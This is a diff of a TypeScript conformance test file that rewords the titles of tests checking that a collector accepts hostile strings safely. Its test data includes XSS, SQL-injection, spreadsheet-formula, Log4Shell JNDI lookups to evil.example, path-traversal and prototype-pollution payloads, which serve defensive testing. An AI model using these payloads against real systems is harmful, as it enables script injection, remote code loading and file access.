@@ -1,4 +1,4 @@
-/** Every string is hostile, and none is a reason to lose an answer. */
+/** Tests that the collector accepts every string, including strings that look like attacks. */
 import { type ConformanceCase, Mismatch } from '../conformanceCase.ts';
 import { expectSorted, expectTaken, toWords } from '../receipt.ts';
 
@@ -11,7 +11,7 @@ interface TextRow {
 const TEXTS: readonly TextRow[] = [
   {
     what: 'markup',
-    title: 'takes comments that are markup and script',
+    title: 'accepts comments with markup and scripts',
     texts: [
       '<script>alert(1)</script>',
       '"><img src=x onerror=alert(1)>',
@@ -23,32 +23,32 @@ const TEXTS: readonly TextRow[] = [
   },
   {
     what: 'sql',
-    title: 'takes comments that look like SQL',
+    title: 'accepts comments that look like SQL',
     texts: ["'; drop table events; --", "' or 1=1 --", '$1', '%s', '"', '\\', "O'Brien", '`', 'null'],
   },
   {
     what: 'formula',
-    title: 'takes comments that a spreadsheet would run',
+    title: 'accepts comments that a spreadsheet would run as formulas',
     texts: ['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("https://evil.example","click")'],
   },
   {
     what: 'template',
-    title: 'takes comments that a template or a logger would fill in',
+    title: 'accepts comments that a template engine or a logger would expand',
     texts: ['{{7*7}}', `\${jndi:ldap://evil.example/a}`, '#{7*7}', '<%= 7*7 %>', '%n%n%n', '../../etc/passwd'],
   },
   {
     what: 'nul',
-    title: 'takes NUL (\\u0000) and other control characters, which PostgreSQL keeps in no text',
+    title: 'accepts NUL (\\u0000), which PostgreSQL cannot store as text, and other control characters',
     texts: ['NUL \0 within', '\0', 'bell \u0007, escape \u001b[31m, delete \u007f', 'line\r\nline\u2028line\u2029line'],
   },
   {
     what: 'lone-surrogates',
-    title: 'takes halves of surrogate pairs, which UTF-8 can not write',
+    title: 'accepts lone surrogates, which UTF-8 cannot encode',
     texts: ['high \ud83d alone', 'low \ude00 alone', '\ude00\ud83d'],
   },
   {
     what: 'direction',
-    title: 'takes text from right to left, marks that turn the direction, and what can not be seen',
+    title: 'accepts right-to-left text, bidirectional control characters and invisible characters',
     texts: [
       'שירות מצוין',
       'خدمة ممتازة',
@@ -61,15 +61,15 @@ const TEXTS: readonly TextRow[] = [
   },
   {
     what: 'emoji',
-    title: 'takes emoji, joined ones too, and letters outside the first plane',
+    title: 'accepts emoji, joined emoji and characters outside the Basic Multilingual Plane',
     texts: ['😀', '👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏽', '𝒻𝒶𝓃𝒸𝓎', '𠜎𠜱', 'e\u0301 and é', 'Z̸̡̛͎̰a̷l̵g̶o̷'],
   },
   {
     what: 'long-word',
-    title: 'takes a word of 20 000 letters',
+    title: 'accepts a word of 20 000 letters',
     texts: ['x'.repeat(20_000)],
   },
-  { what: 'blank', title: 'takes comments of nothing but space', texts: [' ', '\n', '\u00a0\u3000'] },
+  { what: 'blank', title: 'accepts comments that consist of whitespace', texts: [' ', '\n', '\u00a0\u3000'] },
 ];
 
 export const stringCases: readonly ConformanceCase[] = [
@@ -87,7 +87,7 @@ export const stringCases: readonly ConformanceCase[] = [
   ),
   {
     id: 'strings.everywhere',
-    title: 'takes hostile text wherever a host page may put its own: page, subject, respondent, traits, context',
+    title: 'accepts hostile text in every field that the host page sets: page, subject, respondent, traits, context',
     requirement: 'must',
     section: 'strings',
     async run({ events, post }) {
@@ -113,7 +113,7 @@ export const stringCases: readonly ConformanceCase[] = [
   },
   {
     id: 'strings.keys',
-    title: 'takes fields whose names mean something to programs: __proto__, constructor, an empty one',
+    title: 'accepts fields with special names: __proto__, constructor, the empty string',
     requirement: 'must',
     section: 'strings',
     async run({ events, send }) {
@@ -122,7 +122,7 @@ export const stringCases: readonly ConformanceCase[] = [
         '"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}},"toString":1,"":2,"$gt":3,"a.b\\u0000":4';
       const body = JSON.stringify([event]).replace('"data":{', `"data":{${names},"more":{${names}},`);
       expectTaken(await send({ body }), [event]);
-      // And nothing of it stays behind.
+      // Polluted prototypes would affect the next request.
       const next = [events.answered()];
       const answer = await send({ body: JSON.stringify(next) });
       expectTaken(answer, next);
@@ -130,7 +130,7 @@ export const stringCases: readonly ConformanceCase[] = [
   },
   {
     id: 'strings.id',
-    title: 'takes an id with quotes, spaces and letters outside ASCII, and names it unchanged',
+    title: 'accepts an id with quotes, spaces and non-ASCII letters, and returns it unchanged',
     requirement: 'must',
     section: 'strings',
     async run({ events, post }) {
@@ -141,7 +141,7 @@ export const stringCases: readonly ConformanceCase[] = [
   },
   {
     id: 'strings.no-html',
-    title: 'never answers with HTML, where what was posted could run',
+    title: 'sends no HTML response that contains posted text, which a browser could run',
     requirement: 'must',
     section: 'strings',
     async run({ events, post, send }) {
@@ -155,7 +155,7 @@ export const stringCases: readonly ConformanceCase[] = [
         const type = answer.header('Content-Type') ?? '';
         const open = /html|xml/i.test(type) || (type === '' && answer.text !== '');
         if (open && answer.text.includes(evil))
-          throw new Mismatch('no HTML that repeats what was posted', toWords(answer));
+          throw new Mismatch('no HTML that contains the posted text', toWords(answer));
       }
     },
   },
